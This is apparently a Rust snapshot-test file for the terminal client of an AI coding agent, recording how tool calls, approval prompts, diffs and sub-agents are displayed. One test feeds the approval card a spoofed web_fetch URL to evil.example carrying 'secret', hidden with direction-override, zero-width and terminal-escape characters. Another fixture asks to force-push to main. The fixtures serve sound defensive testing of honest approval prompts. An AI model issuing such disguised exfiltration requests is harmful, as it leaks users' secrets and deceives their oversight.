//! Recorded screens of what an agent does and asks.

use moltis_proto::v1::{self, Strand, event::Kind as Fact};

use super::tests::{NARROW, TINY, USUAL, WIDE, recorded, rows, shows, styles};
use crate::app::fixture::{Chat, call_of, session, words};
use crate::app::{Cmd, Reply};

const SIZES: [(u16, u16); 4] = [WIDE, USUAL, NARROW, TINY];

/// Three calls of one answer: one is done, one runs and prints, one waits to be made.
fn working(width: u16, height: u16) -> Chat {
    let mut chat = Chat::open(width, height);
    chat.person("Do the tests pass?");
    chat.answers(vec![
        words("I look."),
        call_of("a", "grep", r#"{"pattern":"fn main","path":"src"}"#),
        call_of("b", "exec", r#"{"command":"cargo test --workspace","timeout":600}"#),
        call_of("c", "read", r#"{"file_path":"Cargo.toml"}"#),
    ]);
    chat.begins("b", "exec", r#"{"command":"cargo test --workspace","timeout":600}"#);
    chat.begins("a", "grep", r#"{"pattern":"fn main","path":"src"}"#);
    let found = "src/main.rs:7\nsrc/bin/a.rs:1\nsrc/bin/b.rs:1\nsrc/bin/c.rs:1\nsrc/bin/d.rs:1";
    chat.finishes("a", "grep", "done", found);
    let printed: String = (1..=9).map(|n| format!("test number_{n} ... ok\n")).collect();
    chat.prints("b", 0, &printed).after(42_000);
    chat
}

#[test]
fn calls_of_one_answer_stand_in_its_order_with_what_they_print() {
    shows("working", &SIZES, working);
    let mut chat = working(80, 24);
    chat.press("C-o");
    recorded("working-unfolded-80x24", &rows(&chat));
}

#[test]
fn every_ending_of_a_call_has_its_sign() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        chat.person("go");
        let endings = ["done", "failed", "denied", "cancelled", "interrupted"];
        let call = |ending: &str| call_of(ending, "exec", r#"{"command":"make"}"#);
        let mut parts: Vec<v1::Part> = endings.iter().map(|ending| call(ending)).collect();
        parts.push(call("left"));
        chat.answers(parts);
        for ending in endings {
            chat.finishes(ending, "exec", ending, "one\ntwo\nthree\nfour");
        }
        chat.ends(v1::Ending::Cancelled);
        chat
    };
    shows("endings", &[WIDE, NARROW], scene);
    recorded("endings-styles", &styles(&scene(100, 50)));
}

#[test]
fn a_change_of_a_file_is_shown_as_what_goes_and_comes() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        chat.person("Rename it.");
        let edit = r#"{"file_path":"src/main.rs","old_string":"fn main() {\n    run();\n}","new_string":"fn main() {\n    run_all();\n    done();\n}"}"#;
        let content: String = (1..=12).map(|n| format!("line {n}\\n")).collect();
        let write = format!(r#"{{"file_path":"notes.md","content":"{content}"}}"#);
        chat.answers(vec![call_of("a", "edit", edit), call_of("b", "write", &write)]);
        chat.begins("a", "edit", edit).finishes("a", "edit", "done", "edited src/main.rs");
        chat.begins("b", "write", &write).finishes("b", "write", "done", "");
        chat.fact(Fact::WorkspaceChanged(v1::WorkspaceChanged {
            files: vec![
                v1::FileChange { path: "src/main.rs".into(), kind: "modified".into() },
                v1::FileChange { path: "notes.md".into(), kind: "created".into() },
            ],
            ..v1::WorkspaceChanged::default()
        }));
        chat.ends(v1::Ending::Done);
        chat
    };
    shows("edits", &[USUAL, NARROW], scene);
    recorded("edits-styles", &styles(&scene(100, 40)));
}

#[test]
fn arguments_show_as_they_arrive() {
    let mut chat = Chat::open(80, 24);
    chat.person("go");
    chat.streams(Strand::Arguments, 0, r#"{"from":"bank","#);
    recorded("preparing-80x24", &rows(&chat));
}

fn asked(width: u16, height: u16) -> Chat {
    let mut chat = Chat::open(width, height);
    chat.person("Publish it.");
    chat.answers(vec![words("I push."), call_of("a", "exec", r#"{"command":"git push"}"#)]);
    chat.asks("a", "exec", "git push --force origin main", r#","timeout":60"#);
    chat
}

#[test]
fn a_question_stands_above_the_composer_and_does_not_take_its_keys() {
    shows("asked", &SIZES, asked);
}

#[test]
fn a_question_that_has_the_keys_says_what_they_do() {
    shows("asked-focused", &SIZES, |width, height| {
        let mut chat = asked(width, height);
        chat.press("C-x a");
        chat
    });
}

#[test]
fn nothing_of_what_is_asked_is_hidden_and_the_source_is_told() {
    let scene = |width, height| {
        let mut chat = asked(width, height);
        chat.fact(Fact::ToolFinished(v1::ToolFinished {
            call: "z".into(),
            tool: "web_fetch".into(),
            ending: "done".into(),
            ..v1::ToolFinished::default()
        }));
        let session = chat.model.session.as_mut().unwrap();
        session.taint = v1::Origin::Web.into();
        session.settings = Some(v1::Settings {
            workspace: "/home/me/site".into(),
            network: "open".into(),
            ..v1::Settings::default()
        });
        let url = "https://bank.example@evil.example/?q=\u{202e}secret\u{1b}[2J\u{200b}";
        chat.asks("b", "web_fetch", url, r#","note":"first\nsecond","empty":"""#);
        chat.press("C-x a").len();
        chat.press("Right");
        chat
    };
    shows("asked-tainted", &[WIDE, USUAL, NARROW], scene);
    recorded("asked-styles", &styles(&scene(80, 30)));
}

#[test]
fn a_question_that_is_put_off_is_one_row() {
    shows("asked-later", &[USUAL, NARROW, TINY], |width, height| {
        let mut chat = asked(width, height);
        chat.press("C-x a");
        chat.press("Esc");
        chat
    });
}

#[test]
fn a_denial_is_given_its_reason_in_the_card() {
    shows("asked-why", &[USUAL, NARROW, TINY], |width, height| {
        let mut chat = asked(width, height);
        chat.press("C-x a").len();
        chat.press("r");
        chat.types("not to main");
        chat
    });
}

#[test]
fn the_questions_of_all_sessions_are_listed() {
    shows("approvals", &[USUAL, NARROW], |width, height| {
        let mut chat = asked(width, height);
        let mut entries = chat.model.pending().to_vec();
        let elsewhere = v1::Approval {
            id: "q-z".into(),
            session: "s2".into(),
            tool: "write".into(),
            subject: "src/a/path/that/is/longer/than/any/narrow/list/has/room/for.rs".into(),
            ..v1::Approval::default()
        };
        entries.push(elsewhere);
        chat.send("/approvals");
        chat.reply(Reply::Approvals(Ok(entries)));
        chat
    });
}

const DIFF: &str = "diff --git a/src/main.rs b/src/main.rs\n--- a/src/main.rs\n+++ \
    b/src/main.rs\n@@ -1,3 +1,3 @@\n fn main() {\n-    run();\n+    run_all(); // a line that is \
    longer than a narrow screen\n }\n";

#[test]
fn what_a_turn_changed_is_shown_as_a_diff() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        assert!(matches!(chat.send("/diff").as_slice(), [.., Cmd::Diff { .. }]));
        let diff = v1::DiffResponse { text: DIFF.into(), ..v1::DiffResponse::default() };
        chat.reply(Reply::Diff { session: "s1".into(), result: Ok(diff) });
        chat
    };
    shows("diff", &[USUAL, NARROW, TINY], scene);
    recorded("diff-styles", &styles(&scene(80, 24)));
}

#[test]
fn what_is_not_as_configured_stands_in_the_status_line() {
    let mut chat = Chat::open(100, 12);
    let settings = v1::Settings {
        approvals: "auto".into(),
        network: "open".into(),
        preset: "reviewer".into(),
        ..v1::Settings::default()
    };
    chat.fact(Fact::SettingsChanged(v1::SettingsChanged { settings: Some(settings) }));
    recorded("mode-100x12", &rows(&chat));
}

/// The daemon's commands that this client has no pane for.
fn commands(chat: &mut Chat) {
    let info = |name: &str, argument: &str, help: &str| v1::CommandInfo {
        name: name.into(),
        argument: argument.into(),
        help: help.into(),
    };
    chat.reply(Reply::Commands(vec![
        info("clear", "", "the model is told nothing of what was before; the log stays"),
        info("agent", "[NAME|none]", "show or choose the kind of agent"),
        info("sh", "COMMAND", "run a program in the sandbox; no model is asked"),
    ]));
}

#[test]
fn a_program_of_the_person_s_stands_below_their_words() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        commands(&mut chat);
        chat.send("/sh on");
        chat.asked_program("t1", "cargo test --workspace");
        chat.begins("a", "exec", r#"{"command":"cargo test --workspace","timeout":600}"#);
        chat.prints("a", 0, "running 3 tests\n").after(4_000);
        chat.fact_of("t2", Fact::ProgramAsked(v1::ProgramAsked { command: "git status".into() }));
        chat
    };
    shows("program", &[USUAL, NARROW], scene);
}

#[test]
fn what_was_cleared_stands_above_a_line() {
    shows("cleared", &[USUAL, NARROW], |width, height| {
        let mut chat = Chat::open(width, height);
        chat.person("A secret.").answer("I keep it.");
        chat.starts("t9");
        chat.fact(Fact::ClearAsked(v1::ClearAsked {}));
        chat.fact(Fact::Cleared(v1::Cleared { upto: 4, since: 5 })).ends(v1::Ending::Done);
        chat.person("What did I tell you?").answer("Nothing.");
        chat
    });
}

#[test]
fn the_commands_of_the_daemon_are_offered_and_helped_with() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        commands(&mut chat);
        chat.types("/c");
        chat
    };
    shows("slash-daemon", &[USUAL, NARROW], scene);
}

/// An agent that this call began.
fn agent(call: &str, title: &str, works: bool) -> v1::Session {
    let spawned = v1::Spawned {
        parent: "s1".into(),
        turn: "t0".into(),
        call: call.into(),
        depth: 1,
        ..v1::Spawned::default()
    };
    let open = v1::OpenTurn { turn: "x".into(), started: true, ..v1::OpenTurn::default() };
    v1::Session {
        spawned: Some(spawned),
        open_turns: if works { vec![open] } else { Vec::new() },
        last_ending: if works { v1::Ending::Unspecified } else { v1::Ending::Cancelled }.into(),
        messages: 7,
        usage: Some(v1::Usage { input_tokens: 12_000, output_tokens: 340, ..v1::Usage::default() }),
        ..session(&format!("agent-{call}"), title)
    }
}

/// Two agents of one answer, of which one works.
fn spawning(width: u16, height: u16) -> Chat {
    let mut chat = Chat::open(width, height);
    chat.person("Find out who calls it.");
    let call = |id| call_of(id, "spawn_agent", r#"{"task":"read the callers of run"}"#);
    chat.answers(vec![words("I have two look."), call("a"), call("b")]);
    for id in ["a", "b"] {
        chat.begins(id, "spawn_agent", r#"{"task":"read the callers of run"}"#);
    }
    assert!(matches!(chat.cmds.last(), Some(Cmd::ListAgents { .. })), "{:?}", chat.cmds);
    let agents = vec![agent("a", "Callers of run", true), agent("b", "Tests of run", false)];
    chat.reply(Reply::Agents { session: "s1".into(), agents });
    chat
}

#[test]
fn a_call_that_began_an_agent_tells_how_far_it_is() {
    shows("agents", &[USUAL, NARROW], spawning);
}

#[test]
fn agents_stand_under_their_session_in_the_list_and_ended_ones_are_folded_away() {
    let scene = |width, height| {
        let mut chat = spawning(width, height);
        chat.press("C-x l");
        let agents = [agent("a", "Callers of run", true), agent("b", "Tests of run", false)];
        let below = v1::Session {
            spawned: Some(v1::Spawned { parent: "agent-a".into(), ..v1::Spawned::default() }),
            ..agent("c", "A file of them", true)
        };
        let mut all = vec![session("s1", "Trip to Prague"), session("s2", "Cooking"), below];
        all.extend(agents);
        chat.reply(Reply::Sessions(Ok(all)));
        chat
    };
    shows("tree", &[USUAL, NARROW], scene);
    shows("tree-opened", &[USUAL, NARROW], |width, height| {
        let mut chat = scene(width, height);
        chat.press("Tab");
        chat
    });
}

#[test]
fn an_agent_is_gone_to_and_left_again() {
    let mut chat = spawning(80, 24);
    chat.press("C-x o");
    assert_eq!(chat.model.session_id(), Some("agent-a"), "the one that works");
    assert!(rows(&chat).contains("agent · C-x p back"), "{}", rows(&chat));
    chat.press("C-x p");
    assert_eq!(chat.model.session_id(), Some("s1"));
    chat.press("C-x p");
    assert!(chat.model.toast.is_some(), "nobody began this one");
}
